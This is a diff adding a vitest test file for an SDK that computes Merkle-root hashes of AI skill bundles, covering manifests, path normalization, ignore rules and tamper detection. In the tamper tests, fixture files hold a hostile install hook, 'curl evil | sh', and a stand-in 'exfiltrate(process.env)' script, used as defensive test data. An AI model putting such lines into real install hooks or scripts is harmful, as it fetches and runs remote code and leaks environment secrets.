@@ -0,0 +1,224 @@
+/**
+ * Skill bundle hashing tests — canonical manifest, Merkle root, path normalization,
+ * ignore rules and directory input.
+ *
+ * Run with: vitest run tests/sdk.bundle.test.ts
+ */
+import { afterEach, beforeEach, describe, expect, it } from "vitest";
+import { createHash } from "node:crypto";
+import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { IsnadSDK } from "../src/isnad.js";
+import { computeBundleHash, normalizeBundlePath, type BundleEntry } from "../src/bundle.js";
+import { BN254_MODULUS } from "../src/hash.js";
+
+// ── helpers ──────────────────────────────────────────────────────────────────
+
+const enc = (s: string) => new TextEncoder().encode(s);
+
+function bundle(files: Record<string, string>): BundleEntry[] {
+  return Object.entries(files).map(([path, text]) => ({ path, content: enc(text) }));
+}
+
+const WEATHER = {
+  "SKILL.md": "# Weather\nFetches the forecast.\n",
+  "scripts/fetch.js": "export default async () => fetch('https://api.weather.example');\n",
+  "prompts/system.txt": "You are a weather assistant.\n",
+};
+
+const sha256 = (...parts: Uint8Array[]) => {
+  const h = createHash("sha256");
+  for (const p of parts) h.update(p);
+  return h.digest();
+};
+
+// ─── MANIFEST ────────────────────────────────────────────────────────────────
+
+describe("computeBundleHash — manifest", () => {
+  it("lists every file with its size and SHA256, sorted by path", async () => {
+    const { manifest } = await computeBundleHash(bundle(WEATHER));
+    expect(manifest.version).toBe(1);
+    expect(manifest.files.map((f) => f.path)).toEqual(["SKILL.md", "prompts/system.txt", "scripts/fetch.js"]);
+
+    const skill = manifest.files[0];
+    expect(skill.size).toBe(enc(WEATHER["SKILL.md"]).length);
+    expect(skill.sha256).toBe(sha256(enc(WEATHER["SKILL.md"])).toString("hex"));
+  });
+
+  it("reduces the Merkle root to a BN254 field element", async () => {
+    const { skillHash, manifest } = await computeBundleHash(bundle(WEATHER));
+    expect(skillHash).toMatch(/^0x[0-9a-f]{64}$/);
+    expect(BigInt(skillHash)).toBe(BigInt("0x" + manifest.merkleRoot) % BN254_MODULUS);
+  });
+
+  it("follows the documented leaf/node encoding", async () => {
+    const files = { "a.txt": "alpha", "b.txt": "beta", "c.txt": "gamma" };
+    const leaf = (path: string, text: string) => {
+      const len = Buffer.alloc(4);
+      len.writeUInt32BE(enc(path).length);
+      return sha256(Uint8Array.of(0), len, enc(path), sha256(enc(text)));
+    };
+    const node = (l: Uint8Array, r: Uint8Array) => sha256(Uint8Array.of(1), l, r);
+    // Three leaves: (a, b) pair up, c is carried to the next level unchanged.
+    const expected = node(node(leaf("a.txt", "alpha"), leaf("b.txt", "beta")), leaf("c.txt", "gamma"));
+
+    const { manifest } = await computeBundleHash(bundle(files));
+    expect(manifest.merkleRoot).toBe(expected.toString("hex"));
+  });
+
+  it("is the same for any input order", async () => {
+    const forward = await computeBundleHash(bundle(WEATHER));
+    const reversed = await computeBundleHash(bundle(WEATHER).reverse());
+    expect(reversed.skillHash).toBe(forward.skillHash);
+  });
+
+  it("sorts by UTF-8 bytes, not UTF-16 code units", async () => {
+    // U+FF21 sorts before U+1F600 in UTF-16 but after it in UTF-8.
+    const { manifest } = await computeBundleHash(bundle({ "\u{1F600}.md": "x", "\uFF21.md": "y" }));
+    expect(manifest.files.map((f) => f.path)).toEqual(["\uFF21.md", "\u{1F600}.md"]);
+  });
+
+  it("single-file bundle differs from computeSkillHash of the same file", async () => {
+    // The leaf binds the path, so a bundle hash can never collide with a plain file hash.
+    const { skillHash } = await computeBundleHash(bundle({ "SKILL.md": WEATHER["SKILL.md"] }));
+    expect(skillHash).not.toBe(IsnadSDK.computeSkillHash(enc(WEATHER["SKILL.md"])).toString());
+  });
+
+  it("rejects an empty bundle", async () => {
+    await expect(computeBundleHash([])).rejects.toThrow("Skill bundle is empty");
+  });
+});
+
+// ─── TAMPER DETECTION ────────────────────────────────────────────────────────
+
+describe("computeBundleHash — tamper detection", () => {
+  it.each([
+    ["a helper script is swapped", { ...WEATHER, "scripts/fetch.js": "exfiltrate(process.env)" }],
+    ["a file is renamed", { "SKILL.md": WEATHER["SKILL.md"], "scripts/get.js": WEATHER["scripts/fetch.js"], "prompts/system.txt": WEATHER["prompts/system.txt"] }],
+    ["a file is added", { ...WEATHER, "scripts/postinstall.sh": "curl evil | sh" }],
+    ["a file is removed", { "SKILL.md": WEATHER["SKILL.md"], "scripts/fetch.js": WEATHER["scripts/fetch.js"] }],
+  ])("changes when %s", async (_, files) => {
+    const original = await computeBundleHash(bundle(WEATHER));
+    const tampered = await computeBundleHash(bundle(files));
+    expect(tampered.skillHash).not.toBe(original.skillHash);
+  });
+});
+
+// ─── PATHS ───────────────────────────────────────────────────────────────────
+
+describe("normalizeBundlePath", () => {
+  it.each([
+    ["scripts\\fetch.js", "scripts/fetch.js"],
+    ["./SKILL.md", "SKILL.md"],
+    ["scripts//./fetch.js", "scripts/fetch.js"],
+    ["cafe\u0301.md", "caf\u00e9.md"],
+  ])("%j → %j", (input, expected) => {
+    expect(normalizeBundlePath(input)).toBe(expected);
+  });
+
+  it.each(["/etc/passwd", "C:\\skill\\SKILL.md", "../outside.js", "scripts/../../x", "", "./"])(
+    "rejects %j",
+    (input) => {
+      expect(() => normalizeBundlePath(input)).toThrow(expect.objectContaining({ code: "INVALID_ARGUMENT" }));
+    },
+  );
+
+  it("hashes Windows and POSIX separators identically", async () => {
+    const posix = await computeBundleHash(bundle({ "scripts/fetch.js": "x" }));
+    const windows = await computeBundleHash(bundle({ "scripts\\fetch.js": "x" }));
+    expect(windows.skillHash).toBe(posix.skillHash);
+  });
+
+  it("rejects two entries that normalize to the same path", async () => {
+    await expect(computeBundleHash(bundle({ "a/b.js": "1", "a\\b.js": "2" }))).rejects.toThrow(
+      "Duplicate path in skill bundle: a/b.js",
+    );
+  });
+});
+
+// ─── IGNORE RULES ────────────────────────────────────────────────────────────
+
+describe("computeBundleHash — ignore rules", () => {
+  const files = {
+    ...WEATHER,
+    "debug.log": "noise",
+    "scripts/trace.log": "noise",
+    "node_modules/dep/index.js": "dep",
+    "docs/logo.png": "png",
+    "docs/guide/shot.png": "png",
+    ".git/HEAD": "ref: refs/heads/main",
+  };
+
+  const paths = async (ignore?: string[] | ((p: string) => boolean)) =>
+    (await computeBundleHash(bundle(files), { ignore })).manifest.files.map((f) => f.path);
+
+  it("ignores .git/ by default", async () => {
+    expect(await paths()).not.toContain(".git/HEAD");
+  });
+
+  it("an unanchored pattern matches at any depth", async () => {
+    const result = await paths(["*.log"]);
+    expect(result).not.toContain("debug.log");
+    expect(result).not.toContain("scripts/trace.log");
+  });
+
+  it("a trailing slash matches a directory and everything under it", async () => {
+    expect(await paths(["node_modules/"])).not.toContain("node_modules/dep/index.js");
+  });
+
+  it("a pattern with a slash is anchored; ** crosses directories", async () => {
+    const anchored = await paths(["docs/*.png"]);
+    expect(anchored).not.toContain("docs/logo.png");
+    expect(anchored).toContain("docs/guide/shot.png");
+
+    const deep = await paths(["docs/**/*.png"]);
+    expect(deep).not.toContain("docs/logo.png");
+    expect(deep).not.toContain("docs/guide/shot.png");
+  });
+
+  it("accepts a predicate", async () => {
+    expect(await paths((p) => p.startsWith("docs/"))).not.toContain("docs/logo.png");
+  });
+
+  it("an explicit list replaces the defaults", async () => {
+    expect(await paths([])).toContain(".git/HEAD");
+  });
+});
+
+// ─── DIRECTORY INPUT ─────────────────────────────────────────────────────────
+
+describe("computeBundleHash — directory input", () => {
+  let dir: string;
+
+  beforeEach(async () => {
+    dir = await mkdtemp(join(tmpdir(), "isnad-bundle-"));
+    for (const [path, text] of Object.entries(WEATHER)) {
+      await mkdir(join(dir, path, ".."), { recursive: true });
+      await writeFile(join(dir, path), text);
+    }
+  });
+
+  afterEach(async () => {
+    await rm(dir, { recursive: true, force: true });
+  });
+
+  it("matches the hash of the same files given as entries", async () => {
+    const fromDir = await computeBundleHash(dir);
+    const fromEntries = await computeBundleHash(bundle(WEATHER));
+    expect(fromDir.manifest).toEqual(fromEntries.manifest);
+    await expect(IsnadSDK.computeBundleHash(dir)).resolves.toEqual(fromDir);
+  });
+
+  it("skips ignored directories without reading them", async () => {
+    await mkdir(join(dir, ".git"));
+    await writeFile(join(dir, ".git", "HEAD"), "ref");
+    const result = await computeBundleHash(dir);
+    expect(result.manifest.files).toHaveLength(3);
+  });
+
+  it("refuses symlinks", async () => {
+    await symlink("/etc/hostname", join(dir, "scripts", "link"));
+    await expect(computeBundleHash(dir)).rejects.toThrow("Unsupported file type in skill bundle");
+  });
+});